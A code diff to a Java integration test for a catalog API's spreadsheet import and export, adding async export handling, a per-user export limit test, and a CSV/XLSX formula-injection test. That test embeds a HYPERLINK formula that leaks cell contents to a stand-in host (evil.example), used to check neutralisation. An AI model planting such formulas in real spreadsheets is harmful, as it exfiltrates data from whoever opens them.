@@ -5,6 +5,12 @@ import static cn.gov.lyg.enforcement.catalog.CatalogApi.officer;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
+import cn.gov.lyg.enforcement.platform.web.ExportSlots;
+import org.springframework.mock.web.MockHttpServletResponse;
+import org.springframework.test.web.servlet.MvcResult;
+import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
+import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.asyncDispatch;
+import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.request;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
@@ -38,6 +44,8 @@ class ItemSheetApiIT {
     JsonMapper json;
     @Autowired
     MongoTemplate mongo;
+    @Autowired
+    ExportSlots exportSlots;
     CatalogApi api;
 
     @BeforeEach
@@ -60,6 +68,12 @@ class ItemSheetApiIT {
             request.param("validOnly", validOnly);
         }
         return api.perform(request, token, null);
+    }
+
+    /** Runs a streamed export to its end (the body is written on the async thread). */
+    private MockHttpServletResponse export(MockHttpServletRequestBuilder request, String token) throws Exception {
+        MvcResult started = api.perform(request, token, null).andExpect(request().asyncStarted()).andReturn();
+        return mvc.perform(asyncDispatch(started)).andExpect(status().isOk()).andReturn().getResponse();
     }
 
     private long count(String code) {
@@ -111,11 +125,9 @@ class ItemSheetApiIT {
         api.perform(get("/api/catalog/v1/items/{id}", id), admin(), null)
                 .andExpect(jsonPath("$.status").value("DRAFT")).andExpect(jsonPath("$.name").value(name));
 
-        byte[] exported = api.perform(get("/api/catalog/v1/items/export").param("q", code), admin(), null)
-                .andExpect(status().isOk())
-                .andExpect(header().string("Content-Disposition",
-                        org.hamcrest.Matchers.containsString("enforcement-items.xlsx")))
-                .andReturn().getResponse().getContentAsByteArray();
+        MockHttpServletResponse response = export(get("/api/catalog/v1/items/export").param("q", code), admin());
+        assertThat(response.getHeader("Content-Disposition")).contains("enforcement-items.xlsx");
+        byte[] exported = response.getContentAsByteArray();
         List<List<String>> rows = Sheets.read(new ByteArrayInputStream(exported), Sheets.Format.XLSX);
         assertThat(rows).hasSize(2);
         assertThat(rows.get(0)).isEqualTo(ItemColumns.header());
@@ -123,9 +135,8 @@ class ItemSheetApiIT {
         assertThat(rows.get(1).get(2)).isEqualTo(name);
 
         // drafts are not exported to others than catalog admins
-        String csv = api.perform(get("/api/catalog/v1/items/export").param("format", "csv").param("q", code),
-                officer(), null).andExpect(status().isOk())
-                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
+        String csv = export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", code), officer())
+                .getContentAsString(StandardCharsets.UTF_8);
         assertThat(csv.lines().count()).isEqualTo(1);
         api.perform(get("/api/catalog/v1/items/export"), null, null).andExpect(status().isUnauthorized());
         api.perform(get("/api/catalog/v1/items/export").param("format", "pdf"), officer(), null)
@@ -145,8 +156,8 @@ class ItemSheetApiIT {
         upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), rows), null)
                 .andExpect(status().isCreated()).andExpect(jsonPath("$.imported").value(250));
 
-        byte[] exported = api.perform(get("/api/catalog/v1/items/export").param("format", "csv").param("q", marker),
-                admin(), null).andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
+        byte[] exported = export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", marker),
+                admin()).getContentAsByteArray();
         List<List<String>> read = Sheets.read(new ByteArrayInputStream(exported), Sheets.Format.CSV);
         assertThat(read.get(0)).isEqualTo(ItemColumns.header());
         assertThat(read.subList(1, read.size()).stream().map(r -> r.get(0)).toList()).isEqualTo(codes);
@@ -170,5 +181,54 @@ class ItemSheetApiIT {
                 .andExpect(jsonPath("$.report.errors[0].code").value("INVALID_FIELD_VALUE"));
         api.perform(multipart("/api/catalog/v1/items/import"), admin(), null)
                 .andExpect(status().isBadRequest());
+    }
+
+    @Test
+    void exportedCellsNeverRunAsFormulasAndImportBackUnchanged() throws Exception {
+        String code = "3207-MKT-PEN-" + CatalogApi.nextSeq();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")" + code;
+        List<String> row = row(code, formula);
+        row.set(9, "@SUM(1+1)");
+        upload(admin(), "items.csv", Sheets.writeCsv(ItemColumns.header(), List.of(row)), null)
+                .andExpect(status().isCreated());
+
+        String csv = export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", code), admin())
+                .getContentAsString(StandardCharsets.UTF_8);
+        assertThat(csv).contains(",'@SUM(1+1),").contains("\"'=HYPERLINK(");
+        List<List<String>> rawCells = new ArrayList<>();
+        try (var reader = new java.io.StringReader(csv.substring(1))) {
+            var csvReader = new cn.gov.lyg.enforcement.platform.tabular.CsvReader(reader,
+                    cn.gov.lyg.enforcement.platform.tabular.TableLimits.defaults());
+            for (List<String> r = csvReader.next(); r != null; r = csvReader.next()) {
+                rawCells.add(r);
+            }
+        }
+        assertThat(rawCells).flatExtracting(r -> r).noneMatch(cell -> cell.startsWith("=") || cell.startsWith("@")
+                || cell.startsWith("+") || cell.startsWith("-"));
+
+        byte[] xlsx = export(get("/api/catalog/v1/items/export").param("q", code), admin()).getContentAsByteArray();
+        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
+            var cell = workbook.getSheetAt(0).getRow(1).getCell(2);
+            assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
+            assertThat(cell.getStringCellValue()).isEqualTo("'" + formula);
+        }
+        // what was exported reads back as the original text
+        assertThat(Sheets.read(new ByteArrayInputStream(xlsx), Sheets.Format.XLSX).get(1).get(2)).isEqualTo(formula);
+    }
+
+    @Test
+    void oneExportPerUserAtATime() throws Exception {
+        String adminSubject = java.util.UUID.nameUUIDFromBytes("catalog-admin".getBytes()).toString();
+        try (ExportSlots.Slot running = exportSlots.acquire(adminSubject)) {
+            api.perform(get("/api/catalog/v1/items/export").param("format", "csv"), admin(), null)
+                    .andExpect(status().isTooManyRequests())
+                    .andExpect(jsonPath("$.code").value("EXPORT_IN_PROGRESS"))
+                    .andExpect(jsonPath("$.retryAfterSeconds").value(10));
+            // other users are not held up
+            export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", "无此事项"), officer());
+        }
+        export(get("/api/catalog/v1/items/export").param("format", "csv").param("q", "无此事项"), admin());
+        // the slot is given back once the export has been written
+        assertThat(exportSlots.busy(adminSubject)).isFalse();
     }
 }
